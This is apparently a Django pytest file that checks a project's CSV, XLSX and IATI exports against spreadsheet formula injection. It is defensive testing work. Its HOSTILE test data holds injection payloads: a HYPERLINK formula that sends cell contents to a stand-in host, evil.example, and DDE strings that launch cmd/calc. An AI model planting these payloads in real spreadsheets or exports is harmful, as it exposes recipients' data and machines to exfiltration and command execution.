"""No exported cell runs as a formula (issue 14, hole 11).

The matrix's exports (the browse page's CSV and XLSX; the API has none) carry texts that users
wrote: titles, activities, partner organisations, donors, keys, and entity and group names that
come from sign-on requests. A text starting with "=", "+", "-", "@", a tab, a carriage return or
a full-width form of the four signs is written with an apostrophe in front, the same way in
both formats (``compact.lib.spreadsheets.spreadsheet_cell``), and XLSX cells are text, never
formulas. An import takes the apostrophe off again, so an export imports back unchanged.
"""

from __future__ import annotations

import csv
import datetime
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import get_resolver
from openpyxl import load_workbook

from compact.lib.spreadsheets import FORMULA_STARTS, spreadsheet_cell, spreadsheet_cell_restore
from compact.matrix.models import Project
from compact.matrix.services import project_save
from tests.factories import EntityFactory, MembershipFactory, WorkingGroupFactory

pytestmark = pytest.mark.django_db

EXPORTS = {"csv": "/projects/export.csv", "xlsx": "/projects/export.xlsx"}

# One hostile value a column. Texts an import reads back start with no blank (it strips them).
HOSTILE = {
    "key": "=1+1",
    "title": '=HYPERLINK("https://evil.example/?"&A2,"Details")',
    "main_activities": "+cmd|' /C calc'!A0",
    "lead_entity_name": "-2+3+cmd|' /C calc'!A0",
    "partner_entity_names": "@SUM(1+1)*cmd|' /C calc'!A0",
    "partner_organizations": "\uff0bcmd",  # full-width plus
    "duration_text": "\t=1+1",
    "scope_text": "\r=1+1",
    "theme_labels": "\uff1d1+1",  # full-width equals sign
    "donors": "\uff0d1+1",  # full-width hyphen-minus
}


@pytest.fixture
def hostile_project(roster):
    """A project whose every free text, and the names of its lead, partner and group, start
    like a formula. Entities and groups are made directly: their names come from sign-on
    requests and the admin."""
    lead = EntityFactory(acronym="EVILA", name=HOSTILE["lead_entity_name"])
    partner = EntityFactory(acronym="EVILB", name=HOSTILE["partner_entity_names"])
    for entity in (lead, partner):
        MembershipFactory(entity=entity)
    group = WorkingGroupFactory(number=11, name=HOSTILE["theme_labels"], short_name="Hostile")
    fields = {
        "title": HOSTILE["title"],
        "main_activities": HOSTILE["main_activities"],
        "lead_entity": lead,
        "partner_organizations": [HOSTILE["partner_organizations"], "EU"],
        "status": "ongoing",
        "start_year": 2019,
        "scope": "national",
        "duration_text": HOSTILE["duration_text"],
        "scope_text": HOSTILE["scope_text"],
        "donors": HOSTILE["donors"],
    }
    return project_save(
        project=None,
        actor=None,
        fields=fields,
        partner_entities=[partner],
        themes=[group],
        countries=["JO"],
        source={"source_key": HOSTILE["key"]},
    )


def exported_csv(client) -> list[dict[str, str]]:
    response = client.get(EXPORTS["csv"])
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def exported_xlsx(client) -> tuple[list[dict[str, object]], bytes]:
    content = client.get(EXPORTS["xlsx"]).content
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    rows = []
    for row in sheet.iter_rows(min_row=3):  # row 1 (hidden): field names; row 2: labels
        assert all(cell.data_type != "f" for cell in row), "a cell is a formula"
        rows.append(dict(zip(header, [_xml_read(cell.value) for cell in row], strict=True)))
    return rows, content


def _xml_read(value: object) -> object:
    """An XLSX cell is XML, whose readers turn a carriage return into a line feed: compare the
    value as written."""
    return value.replace("\n=", "\r=") if isinstance(value, str) else value


def expected(column: str) -> str:
    value = HOSTILE[column]
    return "'" + (f"{value}; EU" if column == "partner_organizations" else value)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised_and_restored(start):
    value = f"{start}1+1"
    assert spreadsheet_cell(value) == f"'{value}"
    assert spreadsheet_cell_restore(spreadsheet_cell(value)) == value
    assert spreadsheet_cell("Border security") == "Border security" and spreadsheet_cell(-5) == -5


def test_the_only_exports_are_the_browse_pages_csv_xlsx_and_iati():
    """So that a new export cannot be added without this file noticing it."""
    names = {name for name in get_resolver().reverse_dict if isinstance(name, str) and "export" in name}
    assert names == {"project-export-csv", "project-export-xlsx", "project-export-iati"}


def test_the_iati_file_carries_every_hostile_text_as_plain_text(settings, client_for, oct_officer, hostile_project):
    """XML is not a spreadsheet: no apostrophe is added, and what a user wrote is text in an
    element, never markup (an IATI tool shows it as written)."""
    from lxml import etree

    settings.IATI_REPORTING_ORG_REF = "XM-TEST-ORG"
    content = client_for(oct_officer).get("/projects/export.iati.xml").content
    activity = etree.fromstring(content).find("iati-activity")
    assert activity.findtext("title/narrative") == HOSTILE["title"]
    assert activity.findtext("description/narrative") == HOSTILE["main_activities"]
    names = [org.findtext("narrative") for org in activity.iter("participating-org")]
    assert HOSTILE["lead_entity_name"] in names and HOSTILE["partner_entity_names"] in names
    assert HOSTILE["partner_organizations"] in names and HOSTILE["donors"] in names


@pytest.mark.parametrize("column", sorted(HOSTILE))
def test_the_csv_export_neutralises_a_formula_in_every_text_column(client_for, oct_officer, hostile_project, column):
    (row,) = exported_csv(client_for(oct_officer))
    assert row[column] == expected(column)


@pytest.mark.parametrize("column", sorted(HOSTILE))
def test_the_xlsx_export_neutralises_a_formula_in_every_text_column(client_for, oct_officer, hostile_project, column):
    (row,), _content = exported_xlsx(client_for(oct_officer))
    assert row[column] == expected(column)


def test_both_formats_write_the_same_cells_and_no_cell_starts_a_formula(client_for, oct_officer, hostile_project):
    client = client_for(oct_officer)
    (csv_row,) = exported_csv(client)
    (xlsx_row,), content = exported_xlsx(client)
    # The texts are the same; the XLSX has real date cells where the CSV has ISO text.
    as_text = {column: "" if value is None else str(value) for column, value in xlsx_row.items()}
    assert isinstance(xlsx_row.pop("updated_at"), datetime.datetime)
    csv_row.pop("updated_at")
    as_text.pop("updated_at")
    assert as_text == csv_row
    assert not [column for column, value in csv_row.items() if value.startswith(FORMULA_STARTS)]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # no formula element at all


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_with_hostile_texts_imports_back_unchanged(
    client_for, oct_officer, hostile_project, settings, tmp_path, fmt
):
    settings.VAR_DIR = tmp_path
    client = client_for(oct_officer)
    response = client.get(EXPORTS[fmt])
    content = b"".join(response.streaming_content) if fmt == "csv" else response.content
    page = client.post("/projects/import/", {"file": SimpleUploadedFile(f"export.{fmt}", content)})
    preview = page.context["preview"]
    assert preview.ok, preview.errors + [error for row in preview.rows for error in row.errors]
    assert [(row.key, row.action) for row in preview.rows] == [(HOSTILE["key"], "unchanged")]
    assert Project.objects.get().title == HOSTILE["title"]
